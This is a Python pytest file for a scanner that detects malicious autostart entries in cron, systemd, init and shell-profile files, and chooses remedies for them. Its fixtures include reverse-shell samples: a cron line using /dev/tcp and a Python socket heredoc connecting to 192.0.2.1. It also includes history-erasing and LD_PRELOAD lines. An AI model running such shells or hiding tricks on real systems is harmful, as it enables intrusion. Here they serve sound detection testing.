import hashlib
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import NamedTuple

import pytest
from msgspec.structs import replace

from codered.detect.autostart import choose_remedy, judge_autostart
from codered.model.allow_list import NOTHING_ALLOWED, AllowedFile, AllowList, LetPass
from codered.model.finding import Finding
from codered.model.heuristics import HEURISTICS
from codered.model.indicators import AutostartIndicator
from codered.model.paths import FilePath
from codered.model.persistence import Autostart
from tests.fixtures.autostart_roots import SHELL, shipped_heuristics
from tests.fixtures.small_packs import make_pack

NOW = datetime(2026, 11, 22, tzinfo=UTC)
LINE = f"* * * * * root {SHELL}".encode()
ENTRY = Autostart(
    kind="cron", path=FilePath("/mnt/etc/cron.d/x"), shown="/etc/cron.d/x", entry="x", command=SHELL, user="root",
    line=3, text=LINE, sha256="ab" * 32, size=99, origin="foreign", changed=NOW - timedelta(days=2),
)  # fmt: skip


class Seen(NamedTuple):
    entries: tuple[Autostart, ...]
    installed: datetime | None = None


def judge(*entries: Autostart, allowed: AllowList = NOTHING_ALLOWED) -> tuple[Finding, ...]:
    return judge_autostart(Seen(entries), shipped_heuristics(), allowed, NOW).findings


def script(text: str, **fields: object) -> Autostart:
    made = replace(ENTRY, line=0, text=text.encode(), command="", facts=frozenset(("by-line",)))
    return replace(made, **fields)


def test_a_finding_by_heuristics_carries_all_that_the_planner_needs() -> None:
    (finding,) = judge(ENTRY)
    assert (finding.pack, finding.layer, finding.remedy) == (HEURISTICS, "autostart", "remove_line")
    assert (finding.indicator, finding.confidence, finding.severity) == ("autostart-reverse-shell", "likely", "high")
    assert "another machine" in finding.because
    assert "T1059.004" in finding.attack
    assert finding.first_seen == ENTRY.changed
    subject = finding.subject
    assert (subject.kind, subject.path, subject.shown) == ("autostart", "/mnt/etc/cron.d/x", "/etc/cron.d/x")
    assert (subject.key, subject.line, subject.links) == ("cron", 3, ())
    first, last = finding.evidence[0], finding.evidence[-1]
    assert (first.what, first.line, first.data, first.source) == ("line 3", 3, LINE, "line")
    assert first.sha256 == hashlib.sha256(LINE).hexdigest()
    assert (last.what, last.sha256, last.size, last.source) == ("the whole file", "ab" * 32, 99, "file")
    assert any(item.source == "text" and item.data and b"/dev/tcp/" in item.data for item in finding.evidence)
    assert len(finding.id) == 12


def test_an_administrators_line_is_not_raised_by_what_changed_with_it() -> None:
    own = replace(
        ENTRY, changed=NOW - timedelta(hours=1), line=0, command="/opt/.x/y", runs=("/opt/.x/y",), text=b"/opt/.x/y"
    )
    (finding,) = judge(own)
    assert (finding.confidence, finding.near) == ("suspicious", False)
    (finding,) = judge(replace(own, runs=("/tmp/y",)))
    assert (finding.confidence, finding.near) == ("suspicious", True)
    (finding,) = judge(replace(own, kind="sudoers", runs=("/tmp/y",)))
    assert (finding.confidence, finding.near) == ("suspicious", False)


def test_two_lines_are_two_findings_and_one_line_is_one() -> None:
    ids = {finding.id for finding in judge(ENTRY, ENTRY, replace(ENTRY, line=4))}
    assert len(ids) == 2


def test_what_a_package_brought_and_what_is_allowed_is_none() -> None:
    assert judge(replace(ENTRY, origin="package")) == ()
    allowed = AllowedFile(
        path="/etc/cron.d/x", sha256="ab" * 32, expires=(NOW + timedelta(days=1)).date(), because="x", who="x"
    )
    assert judge(ENTRY, allowed=AllowList(files=(allowed,))) == ()
    assert judge(replace(ENTRY, sha256="cd" * 32), allowed=AllowList(files=(allowed,)))
    judged = judge_autostart(Seen((ENTRY,)), shipped_heuristics(), AllowList(files=(allowed,)), NOW)
    assert judged.allowed == (LetPass("/etc/cron.d/x", allowed),)
    harmless = replace(ENTRY, text=b"* * * * * root true", command="true")
    assert judge_autostart(Seen((harmless,)), shipped_heuristics(), AllowList(files=(allowed,)), NOW).allowed == ()


def test_what_runs_only_something_allowed_is_none() -> None:
    timer = replace(
        ENTRY, path=FilePath("/mnt/etc/cron.d/y"), shown="/etc/cron.d/y", entry="y", line=1, text=b"@daily root x",
        runs=("/etc/cron.d/x",),
    )  # fmt: skip
    assert {finding.subject.shown for finding in judge(ENTRY, timer)} == {"/etc/cron.d/x", "/etc/cron.d/y"}
    allowed = AllowedFile(
        path="/etc/cron.d/x", sha256="ab" * 32, expires=(NOW + timedelta(days=1)).date(), because="x", who="x"
    )
    assert judge(ENTRY, timer, allowed=AllowList(files=(allowed,))) == ()


def test_a_packs_sign_is_seen_in_what_looks_like_a_packages_file() -> None:
    """The records that say so lie on the suspect machine."""
    sign = AutostartIndicator(
        id="loader", because="It is the loader.", confidence="confirmed", severity="critical", references=(),
        kind="cron", command="*192.0.2.1*",
    )  # fmt: skip
    loaded = make_pack("inert")
    rules = replace(shipped_heuristics(), packs=(replace(loaded, pack=replace(loaded.pack, autostart=(sign,))),))
    entry = replace(ENTRY, origin="package", package="libzz")
    (finding,) = judge_autostart(Seen((entry,)), rules, NOTHING_ALLOWED, NOW).findings
    assert (finding.pack, finding.indicator) == ("inert", "loader")


def test_the_line_that_is_bad_is_named_and_not_the_file() -> None:
    (finding,) = judge(script(f"# {SHELL}\ntrue\n{SHELL}\n", kind="profile"))
    assert (finding.subject.line, finding.remedy) == (3, "remove_line")
    assert finding.evidence[0].sha256 == hashlib.sha256(SHELL.encode()).hexdigest()


@pytest.mark.parametrize("before", ["\n" * 60_000, "a=1\n" * 15_000, "#\n" * 30_000])
def test_a_line_that_was_pushed_down_is_named_with_its_remedy(before: str) -> None:
    """Also where the file goes on beyond what is judged: that cuts another line."""
    for facts in ({"by-line"}, {"by-line", "text-cut"}):
        (finding,) = judge(script(f"{before}{SHELL}\ntrue", kind="profile", facts=frozenset(facts)))
        assert (finding.subject.line, finding.remedy) == (before.count("\n") + 1, "remove_line")
        assert finding.evidence[0].sha256 == hashlib.sha256(SHELL.encode()).hexdigest()


def test_a_line_that_is_cut_is_left_to_a_person() -> None:
    (finding,) = judge(script(f"true\n{SHELL}", kind="profile", facts=frozenset(("by-line", "text-cut"))))
    assert (finding.subject.line, finding.remedy, finding.evidence[0].sha256) == (2, "", None)


@pytest.mark.parametrize("space", ["\n", " ", "\t"])
def test_space_that_pushes_lines_out_of_what_is_judged_is_a_finding_itself(space: str) -> None:
    text = "true\n" + space * 60_000
    (finding,) = judge(script(text, kind="profile", facts=frozenset(("by-line", "text-cut"))))
    assert (finding.indicator, finding.remedy, finding.confidence) == ("autostart-padded", "", "likely")
    assert judge(script(text, kind="profile")) == ()


def test_weak_signs_in_different_lines_do_not_add_up() -> None:
    assert judge(script("unset HISTFILE\nexport LD_PRELOAD=/x\n", kind="profile")) == ()
    (finding,) = judge(script("unset HISTFILE; export LD_PRELOAD=/x\n", kind="profile"))
    assert finding.subject.line == 1


def test_a_strong_sign_over_several_lines_is_the_files_and_left_to_a_person() -> None:
    text = "python3 - <<X\nimport os, socket\ns = socket.socket()\ns.connect(('192.0.2.1', 9))\nos.dup2(3, 0)\nX\n"
    (finding,) = judge(script(text, kind="profile"))
    assert (finding.subject.line, finding.remedy, finding.confidence) == (None, "", "likely")


def test_what_runs_a_finding_is_one_itself_over_several_steps() -> None:
    bad = replace(ENTRY, kind="systemd", path=FilePath("/mnt/usr/bin/s"), shown="/usr/bin/s", entry="s.service", line=0)
    unit = replace(bad, path=FilePath("/mnt/u"), shown="/u", text=b"", command="", runs=("/bin/s",), entry="u.service")
    timer = replace(
        bad, path=FilePath("/mnt/t"), shown="/t", text=b"", command="", runs=("u.service",), entry="u.timer"
    )
    other = replace(timer, path=FilePath("/mnt/o"), shown="/o", runs=("o.service",))
    found = {finding.subject.shown: finding.indicator for finding in judge(timer, unit, bad, other)}
    assert found == {
        "/usr/bin/s": "autostart-reverse-shell",
        "/u": "autostart-runs-found",
        "/t": "autostart-runs-found",
    }


def test_a_packs_sign_comes_with_what_the_pack_says_and_instead_of_heuristics() -> None:
    sign = AutostartIndicator(
        id="loader", because="It is the loader.", confidence="confirmed", severity="critical", references=(),
        attack=("T1053.003",), shared_by=("kin",), kind="cron", command="*192.0.2.1*",
    )  # fmt: skip
    loaded = make_pack("inert")
    rules = replace(shipped_heuristics(), packs=(replace(loaded, pack=replace(loaded.pack, autostart=(sign,))),))
    (finding,) = judge_autostart(Seen((ENTRY,)), rules, NOTHING_ALLOWED, NOW).findings
    assert (finding.pack, finding.indicator, finding.because) == ("inert", "loader", "It is the loader.")
    assert (finding.confidence, finding.severity) == ("confirmed", "critical")
    assert (finding.attack, finding.shared_by, finding.first_seen) == (("T1053.003",), ("kin",), ENTRY.changed)
    assert finding.evidence[0].what == "line 3"


@pytest.mark.parametrize(
    ("fields", "remedy"),
    [
        ({}, "remove_line"),
        ({"facts": frozenset(("text-cut",))}, ""),
        ({"line": 0}, "quarantine_file"),
        ({"line": 0, "origin": "changed", "package": "x"}, "restore_file"),
        ({"line": 0, "kind": "systemd", "path": FilePath("/etc/systemd/system/x.service")}, "remove_service"),
        (
            {"line": 0, "kind": "systemd", "path": FilePath("/x.conf"), "facts": frozenset(("drop-in",))},
            "remove_service",
        ),
        ({"line": 0, "kind": "systemd", "path": FilePath("/usr/lib/systemd/system-generators/x")}, "quarantine_file"),
        ({"line": 0, "kind": "init"}, "remove_service"),
        ({"line": 0, "kind": "init", "facts": frozenset(("run-by-autostart",))}, "quarantine_file"),
        ({"line": 0, "kind": "profile", "facts": frozenset(("by-line",))}, ""),
    ],
)
def test_what_would_remove_it(fields: dict[str, object], remedy: str) -> None:
    assert choose_remedy(replace(ENTRY, **fields)) == remedy


def test_a_line_too_long_to_be_kept_has_no_digest_to_be_taken_out_by() -> None:
    (finding,) = judge(replace(ENTRY, facts=frozenset(("text-cut",))))
    assert (finding.evidence[0].sha256, finding.remedy) == (None, "")


def test_a_name_that_is_not_utf_8_is_kept(tmp_path: Path) -> None:
    (finding,) = judge(replace(ENTRY, path=FilePath("/x\\xff", b"/x\xff")))
    assert (finding.subject.path, finding.subject.path_raw) == ("/x\\xff", b"/x\xff")
